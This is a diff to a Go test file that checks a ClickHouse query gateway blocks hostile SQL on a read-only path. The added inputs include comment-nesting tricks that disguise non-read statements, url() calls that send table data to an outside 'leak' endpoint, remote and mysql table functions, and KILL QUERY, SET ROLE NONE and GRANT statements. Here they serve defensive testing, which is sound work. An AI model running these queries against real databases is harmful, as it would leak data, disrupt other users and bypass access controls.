@@ -41,6 +41,10 @@ func TestAQueryReadsAndDoesNothingElse(t *testing.T) {
 		"WITH x AS (SELECT * FROM " + url + ") SELECT * FROM x", "SELECT * FROM file('/etc/hostname', 'LineAsString')",
 		"SELECT * FROM remote('" + server.Addr + "', default.victim)", "SELECT * FROM executable('x.sh', 'CSV', 'a String')",
 		"SELECT 1 SETTINGS readonly = 0", "SELECT 1 SETTINGS max_execution_time = 0", "SET max_execution_time = 0", "SET readonly = 0",
+		"/* /* */ SELECT */ DESCRIBE TABLE url(concat('" + elsewhere.URL + "/', (SELECT toString(count()) FROM victim)), 'CSVWithNames')",
+		"DESCRIBE /* /* */ ( */ TABLE url('" + elsewhere.URL + "/leak', 'CSVWithNames')", "EXPLAIN TABLE OVERRIDE mysql('" + server.Addr + "', 'd', 't', 'u', 'p')",
+		"/* /* */ SELECT */ KILL QUERY WHERE query LIKE '%somebody else%' SYNC", "/* /* */ SELECT */ USE system", "/* /* */ SELECT */ SET ROLE NONE",
+		"(KILL QUERY WHERE 1)", "SELECT * FROM (DESCRIBE TABLE url('" + elsewhere.URL + "/leak'))",
 		"KILL QUERY WHERE 1", "SYSTEM SHUTDOWN", "USE system", "SET ROLE NONE", "GRANT ALL ON *.* TO reader",
 	} {
 		_, err := one(t, c, sql, nil)
@@ -75,8 +79,9 @@ func TestAnAccountThatReadsAndSetsIsServed(t *testing.T) {
 			t.Errorf("%v %v", got, err)
 		}
 	}
-	for _, sql := range []string{"INSERT INTO FUNCTION null('a UInt8') SELECT 1", "SET max_threads = 1", "CREATE TEMPORARY TABLE t (x UInt8)"} {
-		if _, err := one(t, c, sql, nil); base.KindOf(err) != base.KindPermission {
+	for _, sql := range []string{"INSERT INTO FUNCTION null('a UInt8') SELECT 1", "SET max_threads = 1", "CREATE TEMPORARY TABLE t (x UInt8)",
+		"SELECT * FROM url('http://127.0.0.1:1/', 'CSV', 'a String')", "SELECT * FROM `remote`('127.0.0.1:1', system.one)"} {
+		if _, err := one(t, c, sql, nil); base.KindOf(err) != base.KindPermission && base.KindOf(err) != base.KindInvalid {
 			t.Errorf("%s: %v", sql, err)
 		}
 	}
